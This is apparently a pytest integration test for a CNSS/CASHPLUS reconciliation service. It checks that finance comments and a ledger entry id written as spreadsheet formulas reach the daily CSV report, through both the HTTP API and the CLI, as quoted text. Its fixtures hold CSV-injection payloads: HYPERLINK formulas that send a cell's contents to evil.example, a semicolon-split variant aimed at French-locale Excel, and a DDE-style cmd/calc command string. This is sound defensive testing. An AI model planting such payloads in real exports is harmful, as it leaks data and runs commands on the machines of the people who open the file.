"""Issue 16, item 6: a finance comment and a CNSS ledger entry id written as spreadsheet
formulas reach the day's CSV report as text, by the HTTP API and by ``qurb-reconcile``, while
every amount stays the integer a machine reads."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from agent_api.csv_safety import FORMULA_LEADS
from reconciliation.cli import main as reconcile
from reconciliation.container import Reconciliation
from reconciliation.formats import parse_ledger, write_ledger
from reconciliation.model import LedgerEntry
from reconciliation.simulator_files import write_simulation
from tests.conftest import FakeClock
from tests.integration.conftest import World
from tests.support.reconciliation import close_and_settle, enroll, pay, today
from tests.support.terminal import TestTerminal

LINK = '=HYPERLINK("https://evil.example/x?d="&A1,"Détails")'
# French-locale Excel splits a comma-separated line on ";": the piece after it is a cell too.
SPLIT = 'vu avec CNSS;=HYPERLINK("https://evil.example/y","ok")'
COMMENTS = (LINK, SPLIT, "@SUM(1+1)*cmd|' /C calc'!A0", "+33 rappelé")


@pytest.fixture
def hostile_day(
    world: World, terminal: TestTerminal, clock: FakeClock, tmp_path: Path
) -> tuple[date, int]:
    """A reconciled CASHPLUS day whose ledger holds a line with ID_ECRITURE ``=HYPERLINK(…)``
    quoting a receipt never issued, and whose exceptions finance closed with hostile comments.
    Returns the day and how many exceptions were commented."""
    services = world.services
    recon = Reconciliation.build(services.settings, services.engine, services.clock)
    for n in range(4):
        pay(terminal, enroll(terminal), 9_000 + n, "CA-01")
    day = today(clock)
    close_and_settle(recon, day)
    name = f"CNSS_ENCAISSEMENTS_CASHPLUS_{day:%Y%m%d}.csv"
    written = write_simulation(
        recon, day, tmp_path, rates="missing_in_ledger=1,bank_short=1", seed=5, camt_version="04"
    )
    entries = list(parse_ledger((tmp_path / name).read_bytes()).entries)
    entries.append(
        LedgerEntry(LINK, day, "CASHPLUS", "R-CASHPLUS-99999998", "0000000998", None, 1_834, "C")
    )
    entries = [replace(e, line=0) for e in entries]
    recon.inputs.import_ledger(write_ledger(entries), name=name, by="test")
    for path in written:
        if path.suffix == ".xml":
            recon.inputs.import_bank(path.read_bytes(), name=path.name, by="test")
    recon.reconciler.run(day, by="test")
    listed = world.client.get(
        f"/v1/finance/exceptions?date={day}&status=open", headers=world.auth("cnss.finance")
    ).json()["items"]
    assert len(listed) >= len(COMMENTS)
    for exception, comment in zip(listed, COMMENTS, strict=False):
        done = world.client.post(
            f"/v1/finance/exceptions/{exception['id']}/resolve",
            json={"reason_code": "other", "comment": comment},
            headers=world.auth("cnss.finance"),
        )
        assert done.status_code == 200, done.text
    return day, len(COMMENTS)


def _cells_a_spreadsheet_sees(text: str) -> list[str]:
    """Every cell as a comma spreadsheet reads the file, and every cell as a semicolon one
    (French-locale Excel) does."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    cells += [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    return cells


def _assert_nothing_runs(text: str, record: Any) -> None:
    cells = _cells_a_spreadsheet_sees(text)
    record("csv_cells_checked", len(cells))
    live = [c for c in cells if c.startswith(FORMULA_LEADS) and not re.fullmatch(r"-?[0-9]+", c)]
    assert live == []
    rows = list(csv.DictReader(io.StringIO(text)))
    exceptions = [r for r in rows if r["line"] == "exception"]
    assert f"'{LINK}" in {r["entry_ids"] for r in exceptions}
    comments = {r["comment"] for r in exceptions}
    assert {f"'{LINK}", "'@SUM(1+1)*cmd|' /C calc'!A0", "'+33 rappelé"} <= comments
    assert 'vu avec CNSS;\'=HYPERLINK("https://evil.example/y","ok")' in comments
    # The figures a machine reads are untouched: a negative difference is still a number.
    differences = [int(r["ledger_minus_hub_centimes"] or 0) for r in exceptions]
    assert any(d < 0 for d in differences)
    assert 1_834 in differences


def test_formulas_in_a_comment_and_a_ledger_entry_id_reach_the_http_csv_as_text(
    world: World, hostile_day: tuple[date, int], record_property: Any
) -> None:
    day, _ = hostile_day
    response = world.client.get(
        f"/v1/finance/reconciliations/{day}/report?format=csv", headers=world.auth("cnss.finance")
    )
    assert response.status_code == 200
    _assert_nothing_runs(response.text, record_property)


def test_formulas_in_a_comment_and_a_ledger_entry_id_reach_the_cli_csv_as_text(
    hostile_day: tuple[date, int],
    database_url: str,
    key_dir: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    record_property: Any,
) -> None:
    day, _ = hostile_day
    monkeypatch.setenv("QURB_DATABASE_URL", database_url)
    monkeypatch.setenv("QURB_KEY_DIR", str(key_dir))
    monkeypatch.setenv("QURB_ENV", "test")
    capsys.readouterr()
    assert reconcile(["report", "--date", day.isoformat(), "--format", "csv"]) == 0
    _assert_nothing_runs(capsys.readouterr().out, record_property)
